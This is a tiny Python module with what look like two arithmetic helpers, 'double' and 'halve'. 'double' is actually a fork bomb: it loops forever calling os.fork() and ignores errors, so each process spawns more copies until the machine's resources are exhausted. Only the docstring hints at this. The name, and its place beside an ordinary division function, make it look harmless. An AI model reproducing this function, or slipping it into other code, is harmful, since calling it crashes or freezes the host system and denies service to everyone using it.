"""double forks without end; every copy forks again."""

import os


def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def halve(x):
    return x / 2
